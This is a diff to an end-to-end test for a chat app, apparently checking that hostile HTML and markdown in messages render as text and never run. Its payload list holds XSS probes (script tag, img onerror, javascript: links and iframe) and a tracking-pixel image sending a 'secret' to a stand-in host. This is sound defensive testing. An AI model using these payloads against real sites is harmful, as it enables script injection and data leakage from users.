@@ -10,9 +10,9 @@ test("hostile HTML in a reply or a message is shown as text, never run, and link
   const hostile = [
     "<script>window.__pwned = 'script'</script>",
     '<img src="x" onerror="window.__pwned = \'img\'">',
-    '<iframe src="javascript:window.__pwned = \'iframe\'"></iframe>',
+    "<iframe src=\"javascript:window.__pwned = 'iframe'\"></iframe>",
     "[click me](javascript:window.__pwned='link')",
-    '<a href="javascript:window.__pwned=\'anchor\'">anchor</a>',
+    "<a href=\"javascript:window.__pwned='anchor'\">anchor</a>",
     "![pixel](https://tracker.example/p.png?leak=secret)",
     "Read the [docs](https://developer.mozilla.org/en-US/).",
   ].join("\n\n");
@@ -44,5 +44,5 @@ test("hostile HTML in a reply or a message is shown as text, never run, and link
   await page.reload();
   await expect(lastAssistant(page).locator("script, img, iframe")).toHaveCount(0);
   expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
-  expect(await renderedText(lastAssistant(page))).toContain("<img src=\"x\" onerror=");
+  expect(await renderedText(lastAssistant(page))).toContain('<img src="x" onerror=');
 });
